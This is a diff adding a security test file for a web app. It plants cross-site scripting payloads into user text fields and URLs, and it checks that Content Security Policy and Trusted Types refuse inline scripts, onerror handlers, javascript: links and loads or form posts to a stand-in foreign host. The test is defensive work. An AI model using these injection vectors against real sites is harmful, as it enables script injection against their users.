@@ -1,0 +1,301 @@
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import type { Comment, Item, League, Post } from '#contract/models.ts';
+import { arrive, arriveStaff, inDays, typeOf } from '#tests/support/games.ts';
+import type { Person as Caller } from '#tests/support/people.ts';
+import { size } from '#tests/support/size.ts';
+import { furnish, ownersPhone, scenes, type World } from '#tests/support/tour.ts';
+import { openTown, type Member, type Person, type Town } from '#tests/support/town.ts';
+import { t } from '#tests/support/words.ts';
+import { payloads, setTrap, spoilAnswers, supply, type Trap } from '#tests/support/xss.ts';
+
+/** What somebody wrote is text, whatever it looks like; and should it ever be more, the page's policy refuses it. */
+
+let town: Town;
+beforeAll(async () => {
+  town = await openTown();
+});
+afterAll(() => town?.close());
+afterEach(() => town.quiet());
+
+test('the trap goes off where nothing protects a page', async () => {
+  const person = await town.arrives('בודקת');
+  const trap = await setTrap(person.context);
+  // A frame each, since some swallow whatever comes after them.
+  await person.page.evaluate((texts) => {
+    for (const text of texts) {
+      const frame = document.createElement('iframe');
+      frame.srcdoc = `<div>${text}</div>`;
+      document.body.append(frame);
+    }
+  }, payloads);
+  // The others are for other places than between two tags.
+  const different = () => new Set(trap.ran.map((line) => line.split(' ')[0])).size;
+  await expect.poll(different, { timeout: 30_000 }).toBeGreaterThanOrEqual(45);
+  town.forgive(person, /./);
+});
+
+/**
+ * Writes payloads into every text that the API takes, as whoever may; each is stored as it was written.
+ * Answers the game that they are talked about under.
+ */
+async function plant(world: World, owner: Member): Promise<number> {
+  const next = supply();
+  const stored = async <T extends object>(
+    what: Promise<{ status: number; body: T }>,
+    sent: object,
+  ): Promise<T> => {
+    const { status, body } = await what;
+    expect({ status, body }).toMatchObject({
+      status: expect.toSatisfy((it) => it === 200 || it === 201),
+      body: sent,
+    });
+    return body;
+  };
+  const create = <T extends object>(
+    by: Pick<Caller, 'post'>,
+    model: string,
+    sent: object,
+    more: object = {},
+  ) => stored(by.post<T>(`${model}/`, { ...sent, ...more }), sent);
+  const change = <T extends object>(by: Pick<Caller, 'put'>, path: string, sent: object) =>
+    stored(by.put<T>(`${path}/`, sent), sent);
+  const { call } = owner;
+  const talk = (await call.get<Item>(`item/${world.items.vote}/`)).body.post;
+
+  const { code } = (await call.get<League>(`section/${world.other}/`)).body;
+  for (let friends = 0; friends < 4; friends += 1) {
+    const friend = await arrive(town.server, 'מישהו');
+    await change(friend, `member/${friend.id}`, { name: next(40) });
+    await friend.get('joinAClan/', { code: code ?? '' });
+    await create(friend, 'clan', { name: next(20) });
+    await create<Comment>(friend, 'postcomment', { description: next(500, true) }, { comment_post: talk });
+  }
+  const leagues: League[] = [];
+  for (let count = 0; count < 3; count += 1)
+    leagues.push(await create(call, 'section', { name: next(20), description: next(500, true) }));
+  // Not where the wizard's walk looks for a team among the first.
+  const section = leagues[0]?.id;
+  await create(call, 'clan', { name: next(20) });
+  await change(call, `post/${talk}`, { description: next(2000, true) });
+  await create<Post>(call, 'post', { description: next(2000, true) }, { section: world.league });
+  for (const item of Object.values(world.items)) {
+    const words = { roundName: next(40), gameTimeDisplay: next(40), shortStatusText: next(40) };
+    const description = next(200);
+    const sent = { description, ...words, gameTimeAndStatusDisplayType: 1 };
+    expect((await call.put<Item>(`item/${item}/`, sent)).body).toMatchObject({ description, details: words });
+  }
+
+  const staff = await arriveStaff(town.server, next(40));
+  const type = await create<{ id: number }>(
+    staff,
+    'itemtype',
+    { name: next(60), description: next(200) },
+    { type: 'vote' },
+  );
+  const choices = [1, 2].map((value) => ({ value, title: next(60) }));
+  await create(staff, 'itemrule', { name: next(60), value: next(60) }, { key: 'wine', itemType: type.id });
+  const chosen = { name: next(60), details: { choices, hint: next(60) } };
+  await create(staff, 'itemrule', chosen, { key: 'beer', type: 'select', value: 1, itemType: type.id });
+
+  // Games of that type and of another, with options and rules that say as much.
+  const options: number[] = [];
+  for (let count = 0; count < 3; count += 1)
+    options.push((await create<{ id: number }>(call, 'option', { name: next(60) }, { section })).id);
+  const groups = [{ name: next(120), options }];
+  for (const [itemType, more] of [
+    [type.id, { wine: next(60), beer: 2 }],
+    [await typeOf(call, 'bets'), {}],
+  ] as const) {
+    const rules = { due_date: inDays(2), description: next(2000, true), ...more };
+    await create<Post>(call, 'createPostV3', {}, { section, itemType, rules, groups });
+  }
+  return talk;
+}
+
+/** What the tour finds its way by: a few names, and the catalogue's teams. */
+async function landmarks(): Promise<ReadonlySet<string>> {
+  const teams = await town.server.platform.db
+    .selectFrom('options')
+    .select('name')
+    .where('league_id', 'is', null)
+    .execute();
+  const others =
+    'עוד ליגה|פיצה|המשרד|אבי|בני|גיא|כדורגל|מחזור משחקים|הצבעה|כדורת|מי שופט?|יוסי כהן|' +
+    'על מה מהמרים?|סגירת ההימורים';
+  return new Set([...others.split('|'), ...teams.map(({ name }) => name)]);
+}
+
+/** Whose way leads through options that only their own names tell apart. */
+const unspoilt = new Set(['wizard: pairs', 'wizard: pictures of options']);
+
+/** How many payloads every text on a screen holds at a time. */
+const packed = 20;
+/** The full sizes take their time. */
+const patience = { timeout: 60 * 60_000 };
+
+test('nothing that anybody wrote is ever run, on any screen', patience, async () => {
+  const world = await furnish(town);
+  const kept = await landmarks();
+  const packs = size('packs of twenty payloads in every text of every screen', 1, payloads.length / packed);
+  let talk = 0;
+  for (let pack = 0; pack < packs; pack += 1) {
+    // The small size takes every fifth, so that each kind is there.
+    const own = payloads.filter((_, at) => at % (payloads.length / packed) === pack);
+    const [owner, guest] = await Promise.all([
+      town.livesHere('נועה', { phone: ownersPhone, reducedMotion: 'reduce' }),
+      town.arrives('אורח', { reducedMotion: 'reduce' }),
+    ]);
+    if (pack === 0) talk = await plant(world, owner);
+    const traps: Trap[] = [];
+    for (const { context, page } of [owner, guest]) {
+      traps.push(await setTrap(context));
+      await spoilAnswers(context, own.join(' '), kept);
+      await town.open(page, '/terms');
+    }
+    const said = new Set<string>();
+    for (const { name, show } of scenes.filter(({ name }) => !unspoilt.has(name))) {
+      const page = await show({ owner, guest, world, t });
+      if ((await page.getByText(own[0] ?? '').count()) > 0) said.add(name);
+    }
+    await town.open(owner.page, `/post/${talk}?sheet=chat&of=${talk}`);
+    await owner.page
+      .getByRole('dialog')
+      .getByText(own[0] ?? '')
+      .first()
+      .waitFor();
+    expect(traps.flatMap(({ ran, refused }) => [...ran, ...refused])).toEqual([]);
+    // They were there to be seen, on most screens.
+    expect(said.size).toBeGreaterThan(scenes.length / 2);
+    town.forgive(owner, /status of 404/);
+    town.forgive(guest, /status of 404/);
+    await town.quiet();
+  }
+});
+
+describe('an address', () => {
+  test('is text too, wherever in it something is hidden', patience, async () => {
+    const [owner, guest] = await Promise.all([town.livesHere('נועה'), town.arrives('אורח')]);
+    const count = size('payloads in every part of an address', 4, payloads.length);
+    const some = payloads.filter((_, at) => at % (payloads.length / count) === 0);
+    const traps = await Promise.all([owner, guest].map(({ context }) => setTrap(context)));
+    const asked: string[] = [];
+    for (const { context, page } of [owner, guest]) {
+      await context.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
+        asked.push(route.request().url());
+        return route.abort();
+      });
+      await town.open(page, '/terms');
+    }
+    for (const payload of [...some, '//q.example/', 'https://q.example/']) {
+      const text = encodeURIComponent(payload);
+      const hashes = [
+        `/${text}`,
+        `/section/${text}`,
+        `/post/${text}`,
+        `/profile/${text}`,
+        `/item?id=${text}`,
+        `/join?code=${text}`,
+        `/login?return=${text}`,
+        `/sections?tab=${text}&sheet=${text}&section=${text}&clan=${text}&wizard=${text}`,
+      ];
+      const visit = async ({ page }: Person) => {
+        for (const hash of hashes) {
+          await page.evaluate((to) => location.replace(`#${to}`), hash);
+          await page.getByRole('heading', { level: 1 }).first().waitFor();
+        }
+        await page.goto(`${town.server.url}/?joinclan=${text}&q=${text}#${payload}`);
+        await page.getByRole('heading', { level: 1 }).first().waitFor();
+      };
+      await Promise.all([owner, guest].map(visit));
+    }
+    expect(traps.flatMap(({ ran, refused }) => [...ran, ...refused])).toEqual([]);
+    // And nobody is led away by one.
+    expect(asked).toEqual([]);
+    expect([owner, guest].map(({ page }) => new URL(page.url()).origin)).toEqual(
+      Array(2).fill(town.server.url),
+    );
+    for (const person of [owner, guest]) town.forgive(person, /status of 40[04]/);
+  });
+});
+
+/** Where the page under attack would get its scripts from. */
+const foreign = 'https://q.example';
+
+/** What is in the page's own HTML, and what refuses it. */
+const markup: [html: string, refused: string][] = [
+  ['<script>x$(1)</script>', 'script-src-elem inline'],
+  ['<script type="module">x$(2)</script>', 'script-src-elem inline'],
+  ['<img src="/icon.svg" onload="x$(3)">', 'script-src-attr inline'],
+  [`<script src="${foreign}/q.js"></script>`, `script-src-elem ${foreign}/q.js`],
+  ['<script src="data:text/javascript,x$(4)"></script>', 'script-src-elem data'],
+  [`<iframe src="${foreign}/"></iframe>`, `frame-src ${foreign}`],
+  ['<iframe srcdoc="<script>parent.x$(5)</script>"></iframe>', 'script-src-elem inline'],
+  [`<object data="${foreign}/o"></object>`, `object-src ${foreign}`],
+  [`<img src="${foreign}/q.png">`, `img-src ${foreign}/q.png`],
+  [`<link rel="stylesheet" href="${foreign}/q.css">`, `style-src-elem ${foreign}/q.css`],
+  [`<base href="${foreign}/">`, `base-uri ${foreign}/`],
+];
+
+const typed = 'require-trusted-types-for trusted-types-sink';
+/** What a script of the page's own tries, and what refuses it. */
+const attempts: [code: string, refused: string][] = [
+  ['eval("x$(11)")', typed],
+  ['new Function("x$(12)")()', typed],
+  ['setTimeout("x$(13)")', typed],
+  ['document.body.innerHTML = "<img src=q onerror=x$(14)>"', typed],
+  ['document.body.outerHTML = "<img src=q onerror=x$(15)>"', typed],
+  ['document.body.insertAdjacentHTML("beforeend", "<img src=q onerror=x$(16)>")', typed],
+  ['document.write("<img src=q onerror=x$(17)>")', typed],
+  ['document.createElement("iframe").srcdoc = "<img src=q onerror=parent.x$(18)>"', typed],
+  ['document.createRange().createContextualFragment("<img src=q onerror=x$(19)>")', typed],
+  ['new DOMParser().parseFromString("<p>", "text/html")', typed],
+  [`document.createElement("script").src = "${foreign}/s.js"`, typed],
+  ['document.createElement("script").text = "x$(20)"', typed],
+  [`new Worker("${foreign}/w.js")`, typed],
+  ['trustedTypes.createPolicy("q", { createHTML: (it) => it })', 'trusted-types trusted-types-policy'],
+  ['import("data:text/javascript,x$(21)").catch(() => {})', 'script-src-elem data'],
+  [`fetch("${foreign}/f").catch(() => {})`, `connect-src ${foreign}/f`],
+  [`new EventSource("${foreign}/e")`, `connect-src ${foreign}/e`],
+  [
+    `{ const it = document.createElement("form"); it.action = "${foreign}/"; document.body.append(it); it.submit(); }`,
+    `form-action ${foreign}/?`,
+  ],
+  [
+    '{ const it = document.createElement("a"); it.href = "javascript:x$(22)"; it.click(); }',
+    'script-src-elem inline',
+  ],
+];
+
+test('should it ever be more than text, the page’s policy refuses it', async () => {
+  const person = await town.arrives('תוקפת');
+  const { page, context } = person;
+  const trap = await setTrap(context);
+  const asked: string[] = [];
+  await context.route(`${foreign}/**`, (route) => {
+    asked.push(route.request().url());
+    return route.abort();
+  });
+  const tries = attempts.map(([code]) => `try { ${code} } catch {}`).join('\n');
+  await page.route('**/attempts.js', (route) =>
+    route.fulfill({ contentType: 'text/javascript', body: tries }),
+  );
+  const more = markup.map(([html]) => html).join('\n');
+  await page.route(`${town.server.url}/`, async (route) => {
+    const answer = await route.fetch();
+    const html = await answer.text();
+    // The page's own policy, over more than we put there.
+    await route.fulfill({
+      response: answer,
+      body: html.replace('</body>', `${more}<script src="/attempts.js"></script></body>`),
+    });
+  });
+  // The form's way out keeps the page from ever being done.
+  await page.goto(`${town.server.url}/#/login`, { waitUntil: 'commit' });
+  const refused = () => trap.refused.map((line) => line.split(' ').slice(0, 2).join(' ')).toSorted();
+  const expected = [...markup, ...attempts].map(([, by]) => by).toSorted();
+  await expect.poll(refused, { timeout: 30_000 }).toEqual(expected);
+  expect(trap.ran).toEqual([]);
+  expect(asked).toEqual([]);
+  expect(page.url()).toBe(`${town.server.url}/#/login`);
+  town.forgive(person, /./);
+});
